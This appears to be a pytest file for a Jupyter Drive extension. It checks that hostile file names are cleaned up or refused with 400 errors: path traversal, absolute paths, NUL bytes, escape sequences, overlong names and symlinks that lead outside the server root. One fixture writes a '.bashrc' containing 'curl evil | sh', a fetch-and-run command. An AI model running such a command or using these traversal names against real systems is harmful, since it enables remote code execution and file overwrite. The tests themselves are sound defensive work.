"""Open from Drive with names Drive allows and a file system must not take: every copy lands
inside the server root under one safe name, follows Jupyter's hidden-file rule, and never writes
through a link that leads out. Bad paths from the browser are 400s, not 500s."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from tornado.httpclient import HTTPClientError

from tests.drive.conftest import call, connect, wait_job
from tests.drive.fake_drive import FakeDrive

CONTENT = b"from Drive\n"
LONG = "n" * 296 + ".txt"  # 300 bytes: past the 255 a file system takes


def everything_under(folder: Path) -> set[str]:
    """Every file and folder under ``folder``, but Jupyter's checkpoints."""
    found = {p.relative_to(folder).as_posix() for p in folder.rglob("*")}
    return {p for p in found if not p.startswith(".ipynb_checkpoints")}


async def open_copy(jp_fetch: Any, file_id: str, folder: str = "") -> tuple[int, dict[str, Any]]:
    """POST /drive/open, then the finished job; or the refusal's status and answer."""
    try:
        job = await call(
            jp_fetch, "open", method="POST", body={"file_id": file_id, "folder": folder}
        )
    except HTTPClientError as error:
        assert error.response is not None
        return error.code, json.loads(error.response.body)
    return 202, await wait_job(jp_fetch, job)


@pytest.fixture
def outside(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("outside")


@pytest.mark.parametrize(
    ("name", "saved_as"),
    [
        ("{outside}/abs.txt", "{outside_}_abs.txt"),
        ("..", "__"),
        (".", "_"),
        ("a\x00b.txt", "a_b.txt"),
        ("tab\there\x1b[31m.txt", "tab_here_[31m.txt"),
        (LONG, LONG[:240] + ".txt"),
        ("link/into-the-link.txt", "link_into-the-link.txt"),  # root/link leads outside
    ],
)
async def test_hostile_names_become_one_safe_name_inside_the_root(
    jp_fetch: Any,
    fake_drive: FakeDrive,
    jp_root_dir: Path,
    outside: Path,
    name: str,
    saved_as: str,
) -> None:
    (jp_root_dir / "link").symlink_to(outside, target_is_directory=True)
    name = name.format(outside=outside)
    saved_as = saved_as.format(outside_=str(outside).replace("/", "_"))
    await connect(jp_fetch, fake_drive)
    status, job = await open_copy(jp_fetch, fake_drive.add_file(name, CONTENT))
    assert status == 202 and job["state"] == "done", job
    assert job["path"] == saved_as and job["name"] == saved_as
    assert (jp_root_dir / saved_as).read_bytes() == CONTENT
    assert everything_under(jp_root_dir) == {"link", saved_as}  # no partial file left over
    assert list(outside.iterdir()) == []
    assert not (jp_root_dir.parent / "root_dir (1)").exists()  # "." once meant the root itself


async def test_traversal_names_are_hidden_files_refused_unless_allowed(
    jp_fetch: Any, fake_drive: FakeDrive, jp_root_dir: Path, jp_serverapp: Any
) -> None:
    await connect(jp_fetch, fake_drive)
    file_id = fake_drive.add_file("../../x.txt", CONTENT)
    status, answer = await open_copy(jp_fetch, file_id)
    assert status == 400, answer
    assert "'.._.._x.txt' is hidden" in answer["message"]
    assert "allow_hidden is False" in answer["message"]
    assert everything_under(jp_root_dir) == set()
    assert not (jp_root_dir.parent.parent / "x.txt").exists()

    jp_serverapp.contents_manager.allow_hidden = True
    status, job = await open_copy(jp_fetch, file_id)
    assert job["state"] == "done" and job["path"] == ".._.._x.txt", job
    assert (jp_root_dir / ".._.._x.txt").read_bytes() == CONTENT


async def test_hidden_files_and_folders_follow_allow_hidden(
    jp_fetch: Any, fake_drive: FakeDrive, jp_root_dir: Path, jp_serverapp: Any
) -> None:
    (jp_root_dir / ".hidden").mkdir()
    await connect(jp_fetch, fake_drive)
    bashrc = fake_drive.add_file(".bashrc", b"curl evil | sh\n")
    plain = fake_drive.add_file("plain.txt", CONTENT)
    for file_id, folder, shown in (
        (bashrc, "", "'.bashrc' is hidden"),
        (plain, ".hidden", "'.hidden' is hidden"),
    ):
        status, answer = await open_copy(jp_fetch, file_id, folder)
        assert status == 400, answer
        assert f"{shown}" in answer["message"] and "allow_hidden" in answer["message"]
    assert everything_under(jp_root_dir) == {".hidden"}

    jp_serverapp.contents_manager.allow_hidden = True
    status, job = await open_copy(jp_fetch, bashrc)
    assert job["state"] == "done" and job["path"] == ".bashrc", job
    status, job = await open_copy(jp_fetch, plain, ".hidden")
    assert job["state"] == "done" and job["path"] == ".hidden/plain.txt", job


@pytest.mark.parametrize("dangling", [True, False])
async def test_a_link_of_the_same_name_that_leads_out_is_refused(
    jp_fetch: Any, fake_drive: FakeDrive, jp_root_dir: Path, outside: Path, dangling: bool
) -> None:
    if not dangling:
        (outside / "notes.txt").write_bytes(b"theirs")
    (jp_root_dir / "notes.txt").symlink_to(outside / "notes.txt")
    await connect(jp_fetch, fake_drive)
    status, answer = await open_copy(jp_fetch, fake_drive.add_file("notes.txt", CONTENT))
    assert status == 400, answer
    assert "'notes.txt' leads outside the server root" in answer["message"]
    assert (jp_root_dir / "notes.txt").is_symlink()
    assert everything_under(jp_root_dir) == {"notes.txt"}
    assert everything_under(outside) == (set() if dangling else {"notes.txt"})


@pytest.mark.parametrize(
    ("route", "body", "says"),
    [
        ("open", {"file_id": "x", "folder": "a\x00b"}, "NUL character"),
        ("open", {"file_id": "x", "folder": "n" * 300}, "longer than 255 bytes"),
        ("save", {"path": "a\x00b.txt"}, "NUL character"),
        ("save", {"path": "d/" + "n" * 300}, "longer than 255 bytes"),
        ("mount", {"mountpoint": "drive\x00x"}, "NUL character"),
        ("mount", {"mountpoint": "{root}/drive\x00x"}, "NUL character"),
        ("mount", {"mountpoint": "{root}/" + "n" * 300}, "longer than 255 bytes"),
        ("unmount", {"mountpoint": "n" * 300}, "longer than 255 bytes"),
    ],
)
async def test_nul_and_long_names_in_paths_are_400s(
    jp_fetch: Any,
    fake_drive: FakeDrive,
    jp_root_dir: Path,
    route: str,
    body: dict[str, str],
    says: str,
) -> None:
    await connect(jp_fetch, fake_drive)
    body = {key: value.replace("{root}", str(jp_root_dir)) for key, value in body.items()}
    with pytest.raises(HTTPClientError) as refused:
        await call(jp_fetch, route, method="POST", body=body)
    assert refused.value.code == 400
    assert refused.value.response is not None
    assert says in json.loads(refused.value.response.body)["message"]
